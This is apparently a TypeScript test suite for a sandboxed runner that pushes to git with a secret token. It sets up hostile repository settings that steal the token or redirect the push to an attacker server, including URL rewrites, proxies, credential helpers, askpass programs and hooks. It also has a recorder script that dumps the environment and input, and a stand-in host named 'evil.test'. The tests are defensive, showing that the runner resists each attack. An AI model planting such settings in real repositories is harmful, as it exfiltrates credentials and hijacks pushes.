/**
 * git with a credential, against a real server that asks for it, in repositories that nobody vouched for. Every attack is
 * shown to be real first: git as a person starts it, with the token at hand, hands the token or the push to the attacker.
 * (Longer than other files: every attack stands on the one server and repository.)
 */
import { execFile } from "node:child_process";
import { appendFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { attackerServer, brokenServer, ca, gitServer, silentServer, type TestServer } from "./fixtures/git-server.ts";
import {
  contextOf,
  GIT_ENVIRONMENT,
  gitIn,
  jail,
  MODES,
  makeBase,
  makeRepository,
  removeBases,
  type SceneOptions,
  useOf,
  writeProgram,
} from "./fixtures/scene.ts";
import { runCredentialCommand } from "./run.ts";

const TOKEN = "ghp_T0ken+with/hazards=\"';% é";
const PUSH = ["git", "push", "origin", "main"];

let base: string;
let server: TestServer;
let attacker: TestServer;
let root: string;
beforeEach(async () => {
  base = makeBase();
  attacker = await attackerServer();
  server = await gitServer(join(base, "served"), TOKEN, { elsewhere: attacker.origin });
  root = makeRepository(base, remote());
});
afterEach(async () => {
  await Promise.all([server.close(), attacker.close()]);
  removeBases();
});

const remote = (): string => `${server.origin}/repository.git`;
const pushed = (branch = "main"): string | null => {
  const refs = gitIn(join(base, "served/repository.git"), "for-each-ref", "--format=%(refname)");
  return refs.includes(`refs/heads/${branch}\n`) ? branch : null;
};

interface Asked extends SceneOptions {
  readonly cwd?: string;
  readonly argv?: readonly string[];
  readonly pattern?: readonly string[];
  readonly to?: string;
  readonly secret?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly ca?: string;
}

async function run({
  argv = PUSH,
  pattern = ["git", "push", "origin", "*"],
  to = remote(),
  secret = TOKEN,
  env,
  cwd,
  ca,
  ...scene
}: Asked = {}) {
  const args = { argv, ...(env === undefined ? {} : { env }), ...(cwd === undefined ? {} : { cwd }) };
  const call = { context: contextOf(root, scene), use: useOf(pattern, { kind: "askpass", remote: to }), secret, args };
  const answer = await runCredentialCommand({ ...call, ca: ca ?? null }, new AbortController().signal);
  if (!answer.ok) return { code: answer.failure.code, message: answer.failure.message, said: "" };
  const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString("utf8");
  return { code: answer.value.exitCode, message: "", said: text(answer.value.stdout) + text(answer.value.stderr) };
}

test("a jail works where these tests run", () => expect(jail).toMatchObject({ ok: true }));

describe.each(MODES)("in a repository without malice (sandbox %s)", (sandbox) => {
  test("a push with the right token arrives, and tells the remote by the policy's name for it", async () => {
    const { code, said } = await run({ sandbox });
    expect([code, pushed()]).toEqual([0, "main"]);
    expect(said).toContain(`To ${remote()}`);
    expect(said).not.toContain("8080");
  });

  test("one with a wrong token fails and changes nothing", async () => {
    const { code } = await run({ sandbox, secret: "wrong" });
    expect([code, pushed()]).toEqual([128, null]);
    expect(server.heard.length).toBeGreaterThan(0);
  });

  test("a listing is answered, too", async () => {
    await run({ sandbox });
    const { code, said } = await run({
      sandbox,
      argv: ["git", "ls-remote", "origin"],
      pattern: ["git", "ls-remote", "origin"],
    });
    expect([code, said]).toEqual([0, expect.stringMatching(/^[0-9a-f]{40}\trefs\/heads\/main$/m)]);
  });

  test("without a refspec the current branch is pushed, also from a linked work tree and after packing", async () => {
    gitIn(root, "worktree", "add", "-q", "-b", "side", join(root, "tree"));
    gitIn(root, "gc", "-q");
    const call = { sandbox, argv: ["git", "push", "origin"], pattern: ["git", "push", "origin"] };
    expect((await run(call)).code).toBe(0);
    expect((await run({ ...call, cwd: "tree" })).code).toBe(0);
    expect([pushed("main"), pushed("side")]).toEqual(["main", "side"]);
  });

  test("a push larger than git sends in one piece arrives", async () => {
    writeFileSync(
      join(root, "large"),
      Buffer.from(Array.from({ length: 3 << 20 }, (_, at) => (at * at * 31 + (at >> 7)) & 255)),
    );
    gitIn(root, "add", "large");
    gitIn(root, "-c", "core.compression=0", "commit", "-q", "-m", "large");
    expect((await run({ sandbox })).code).toBe(0);
    expect(server.heard.some(({ headers }) => headers["transfer-encoding"] === "chunked")).toBe(true);
    expect(pushed()).toBe("main");
  });

  test("nothing stays behind", async () => {
    const ours = () => readdirSync(tmpdir()).filter((name) => /^agent-run-[^-]+$/.test(name));
    const before = ours();
    await run({ sandbox });
    await run({ sandbox, secret: "wrong" });
    expect(ours().filter((name) => !before.includes(name))).toEqual([]);
  });
});

/** What a hostile repository brings. `file`: where its programs write. */
interface Attack {
  readonly name: string;
  make(file: string): void;
}

const config = (...settings: readonly (readonly [string, string])[]): void => {
  for (const [key, value] of settings) gitIn(root, "config", "--add", key, value);
};
const recorder = (file: string): string =>
  writeProgram(
    join(base, "recorder"),
    `#!/bin/sh\necho "ran $*" >> ${file}\nenv >> ${file}\ntimeout 1 cat >> ${file}\n`,
  );

const ATTACKS: readonly Attack[] = [
  { name: "url.insteadOf", make: () => config([`url.${attacker.origin}/.insteadOf`, `${server.origin}/`]) },
  { name: "url.insteadOf of everything", make: () => config([`url.${attacker.origin}/.insteadOf`, "http:"]) },
  { name: "url.pushInsteadOf", make: () => config([`url.${attacker.origin}/.pushInsteadOf`, remote()]) },
  { name: "remote.url", make: () => gitIn(root, "config", "remote.origin.url", `${attacker.origin}/x.git`) },
  { name: "remote.pushurl", make: () => config(["remote.origin.pushurl", `${attacker.origin}/x.git`]) },
  { name: "http.proxy", make: () => config(["http.proxy", attacker.origin]) },
  {
    name: "http.URL.proxy",
    make: () => config(["http.http://127.0.0.1.proxy", attacker.origin], ["http.proxy", attacker.origin]),
  },
  { name: "remote.proxy", make: () => config(["remote.origin.proxy", attacker.origin]) },
  { name: "credential.helper", make: (file) => config(["credential.helper", recorder(file)]) },
  { name: "credential.URL.helper", make: (file) => config([`credential.${server.origin}.helper`, recorder(file)]) },
  { name: "core.askPass", make: (file) => config(["core.askPass", recorder(file)]) },
  {
    name: "a pre-push hook",
    make: (file) => writeProgram(join(root, ".git/hooks/pre-push"), readFileSync(recorder(file), "utf8")),
  },
  {
    name: "core.hooksPath",
    make: (file) => {
      writeProgram(join(base, "hooks/pre-push"), readFileSync(recorder(file), "utf8"));
      config(["core.hooksPath", join(base, "hooks")]);
    },
  },
  {
    name: "an include",
    make: () => {
      writeFileSync(join(root, "more"), `[url "${attacker.origin}/"]\n\tinsteadOf = ${server.origin}/\n`);
      config(["include.path", "../more"]);
    },
  },
  {
    name: "settings of a work tree",
    make: () => {
      config(["extensions.worktreeConfig", "true"]);
      appendFileSync(
        join(root, ".git/config.worktree"),
        `[url "${attacker.origin}/"]\n\tinsteadOf = ${server.origin}/\n`,
      );
    },
  },
];

/** git as a person starts it: with the token in a helper of its own, then without. */
async function naive(): Promise<void> {
  writeFileSync(join(base, "answer"), `username=x-access-token\npassword=${TOKEN}\n`);
  const helper = writeProgram(join(base, "helper"), `#!/bin/sh\n[ "$1" = get ] && cat ${base}/answer\n`);
  for (const words of [["-c", `credential.helper=${helper}`], []]) {
    await new Promise((done) =>
      execFile("git", ["-C", root, ...words, ...PUSH.slice(1)], { env: GIT_ENVIRONMENT }, done),
    );
  }
}

describe.each(ATTACKS)("a repository with $name", ({ make }) => {
  test("gets hold of a naive git", async () => {
    const file = join(base, "recorded");
    make(file);
    expect(existsSync(file)).toBe(false);
    await naive();
    const token = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");
    const wasTold = attacker.heard.some(({ headers }) => Object.values(headers).includes(`Basic ${token}`));
    expect(wasTold || existsSync(file)).toBe(true);
  });

  // Open, as the jail alone would keep some of these away.
  test("neither gets the token nor the push", async () => {
    const file = join(base, "recorded");
    make(file);
    const { code } = await run({ sandbox: "none" });
    expect([code, pushed()]).toEqual([0, "main"]);
    expect(attacker.heard).toEqual([]);
    expect(existsSync(file)).toBe(false);
  });
});

describe.each(MODES)("what reaches the server (sandbox %s)", (sandbox) => {
  test("is the push and nothing else: no field, cookie or agent of the repository's choice", async () => {
    writeFileSync(join(root, "cookies"), "127.0.0.1\tFALSE\t/\tFALSE\t0\tc\tevil\n");
    config(["http.extraHeader", "x-evil: 1"], ["http.cookieFile", "cookies"], ["http.userAgent", "evil"]);
    expect((await run({ sandbox })).code).toBe(0);
    expect(JSON.stringify(server.heard)).not.toContain("evil");
    expect(new Set(server.heard.map(({ method, url }) => `${method} ${url}`))).toEqual(
      new Set(["GET /repository.git/info/refs?service=git-receive-pack", "POST /repository.git/git-receive-pack"]),
    );
    expect(JSON.stringify(server.heard)).not.toContain("x-agent-run");
  });

  test("is not followed when it leads elsewhere", async () => {
    const { code, said } = await run({ sandbox, to: `${server.origin}/moved.git` });
    expect(code).toBe(128);
    expect(server.heard.map(({ url }) => url)).toEqual(["/moved.git/info/refs?service=git-receive-pack"]);
    expect(attacker.heard).toEqual([]);
    expect(said).not.toContain(attacker.origin);
  });
});

test("the token is in no argument, variable or file of git and what it starts", async () => {
  const trace = join(base, "trace");
  const real = contextOf(root).policy.subprocess.commands[0]?.path ?? "";
  const git = writeProgram(
    join(base, "bin/git"),
    `#!/bin/sh\n{ tr '\\0' '\\n' < /proc/self/cmdline; env; for f in $(find "$GIT_DIR" "$GIT_DIR/.." -maxdepth 1 -type f); do cat $f; done; } > ${trace}\nexec ${real} "$@"\n`,
  );
  const context = contextOf(root, { sandbox: "none" });
  const { statSync } = await import("node:fs");
  const { dev, ino } = statSync(git);
  const subprocess = { ...context.policy.subprocess, commands: [{ name: "git", path: git, dev, ino }] };
  const call = {
    use: useOf(PUSH, { kind: "askpass", remote: remote() }),
    secret: TOKEN,
    args: { argv: PUSH },
    ca: null,
  };
  const answer = await runCredentialCommand(
    { ...call, context: { ...context, policy: { ...context.policy, subprocess } } },
    new AbortController().signal,
  );
  expect(answer).toMatchObject({ ok: true, value: { exitCode: 0 } });
  const seen = readFileSync(trace, "latin1");
  expect(seen).toContain("GIT_DIR=");
  expect(seen).toContain("extraHeader");
  const spellings = [TOKEN, encodeURIComponent(TOKEN), Buffer.from(`x-access-token:${TOKEN}`).toString("base64")];
  for (const spelling of spellings) expect(seen).not.toContain(Buffer.from(spelling).toString("latin1"));
});

test("an origin that breaks off in the middle of its answer ends the call, and nothing else", async () => {
  await server.close();
  server = await brokenServer();
  expect((await run()).code).toBe(128);
  expect(server.heard.length).toBe(1);
});

test("a run that ends takes git and its door along", async () => {
  await server.close();
  server = await silentServer();
  const controller = new AbortController();
  const call = {
    use: useOf(PUSH, { kind: "askpass", remote: remote() }),
    secret: TOKEN,
    args: { argv: PUSH },
    ca: null,
  };
  const answer = runCredentialCommand({ ...call, context: contextOf(root) }, controller.signal);
  while (server.heard.length === 0) await new Promise(setImmediate);
  controller.abort();
  expect(await answer).toMatchObject({ ok: false, failure: { code: "E_INTERRUPTED" } });
});

describe("over TLS", () => {
  test("the push arrives where the certificate is trusted", async () => {
    await server.close();
    server = await gitServer(join(base, "secure"), TOKEN, { secure: true });
    const { code } = await run({ ca: ca() });
    expect(code).toBe(0);
    expect(server.heard.length).toBeGreaterThan(0);
  });

  test("where it is not, nothing is sent, whatever the repository says of verification", async () => {
    await server.close();
    server = await gitServer(join(base, "secure"), TOKEN, { secure: true });
    config(["http.sslVerify", "false"]);
    expect((await run()).code).toBe(128);
    expect(server.heard).toEqual([]);
  });
});

describe("the secret is not used", () => {
  const any = ["git", "**"];
  test.each([
    ["for other words than the use's", { argv: ["git", "push", "origin"] }],
    ["for another verb", { argv: ["git", "fetch", "origin"], pattern: any }],
    ["with an option before the verb", { argv: ["git", "-c", "http.proxy=x", "push"], pattern: any }],
    ["for a remote that the use does not name", { argv: ["git", "push", "other", "main"], pattern: any }],
    ["for a URL of the script", { argv: ["git", "push", "https://evil.test/x", "main"], pattern: any }],
    ["with a program for the other side", { argv: ["git", "push", "origin", "--receive-pack=x"] }],
    ["with force in the place of a word", { argv: ["git", "push", "origin", "--force"] }],
    ["with a forced refspec", { argv: ["git", "push", "origin", "+main"] }],
    ["with a refspec that deletes", { argv: ["git", "push", "origin", ":main"] }],
    ["with variables", { env: { MODE: "x" } }],
    ["without TLS to another machine", { to: "http://git.example/repository.git" }],
    ["with a password in the remote", { to: "https://u:p@git.example/repository.git" }],
    ["for a whole origin", { to: "https://git.example/" }],
  ] as const)("%s", async (_, asked: Asked) => {
    expect((await run(asked)).code).toBe("E_SLOT");
    expect(server.heard).toEqual([]);
  });

  test("where the repository is closed to the script", async () => {
    expect((await run({ denied: [join(root, ".git/objects")] })).code).toBe("E_POLICY_DENIED");
    expect(server.heard).toEqual([]);
  });

  test("where the repository of a work tree is closed to the script", async () => {
    const other = join(base, "other");
    gitIn(root, "worktree", "add", "-q", "-b", "side", other);
    root = other;
    expect((await run()).code).toBe("E_POLICY_DENIED");
    expect(server.heard).toEqual([]);
  });

  test("where there is no repository", async () => {
    root = makeBase();
    expect((await run()).code).toBe("E_EXEC");
  });
});

test("force works where the policy writes it out", async () => {
  await run();
  gitIn(root, "commit", "-q", "--amend", "-m", "other");
  expect((await run()).code).toBe(1);
  const force = ["git", "push", "--force", "origin", "main"];
  expect((await run({ argv: force, pattern: force })).code).toBe(0);
});
